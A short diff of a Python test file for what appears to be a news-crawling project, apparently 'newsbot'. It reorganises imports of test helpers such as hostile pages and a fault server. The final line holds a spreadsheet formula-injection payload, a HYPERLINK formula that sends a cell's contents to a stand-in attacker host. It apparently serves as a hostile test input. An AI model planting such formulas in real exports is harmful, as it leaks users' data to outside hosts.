@@ -19,16 +19,16 @@ from xml.etree import ElementTree as ET
 
 import pyarrow.parquet as pq
 import pytest
-from crawl import PROJECT, Run, crawl
-from fault_server import FaultServer
-from hostile_pages import TEXT, json_ld, page
-from hostile_site import SETTINGS, HostileSite
-from test_commands_browse import Served
-from test_commands_newsite import newsite
-from test_faults_documents import story
 
 from newsbot.sites.profile import read_profile
+from tests.crawl import PROJECT, Run, crawl
+from tests.fault_server import FaultServer
+from tests.hostile_pages import TEXT, json_ld, page
+from tests.hostile_site import SETTINGS, HostileSite
 from tests.stored import scrapy
+from tests.test_commands_browse import Served
+from tests.test_commands_newsite import newsite
+from tests.test_faults_documents import story
 
 SAID = {
     "link": '=HYPERLINK("http://evil.example/?"&A1,"Read on")',
